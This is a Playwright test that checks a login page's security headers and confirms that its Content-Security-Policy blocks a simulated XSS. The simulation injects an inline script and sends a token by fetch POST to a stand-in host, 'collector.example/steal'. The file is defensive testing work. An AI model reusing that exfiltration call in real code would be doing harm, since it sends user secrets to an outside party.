import { expect, test } from '../fixtures.ts';

test('the app is served under its strict policy, which stops an injected script and a call elsewhere', async ({
  page,
  policyViolations,
}) => {
  const response = await page.goto('/login');
  const headers = response?.headers() ?? {};
  expect(headers['content-security-policy']).toContain("script-src 'self'");
  expect(headers['content-security-policy']).not.toContain('unsafe-inline');
  expect(headers['cross-origin-opener-policy']).toBe('same-origin');
  expect(headers['x-content-type-options']).toBe('nosniff');
  await expect(page.getByRole('heading', { name: 'Log in' })).toBeVisible();

  // What an XSS would try: run a script of its own, send the token away.
  policyViolations.expected.push(/inline script|collector\.example/);
  await page.evaluate(() => {
    const script = document.createElement('script');
    script.textContent = 'window.injected = true';
    document.body.append(script);
  });
  expect(await page.evaluate(() => 'injected' in window)).toBe(false);
  const sent = await page.evaluate(() =>
    fetch('https://collector.example/steal', { method: 'POST', body: 'token' }).then(
      () => 'sent',
      () => 'blocked',
    ),
  );
  expect(sent).toBe('blocked');
  // The browser reported both (and the fixture lets them pass).
  for (const blocked of [/inline script/, /collector\.example/]) {
    await expect.poll(() => policyViolations.seen.some((text) => blocked.test(text))).toBe(true);
  }
});
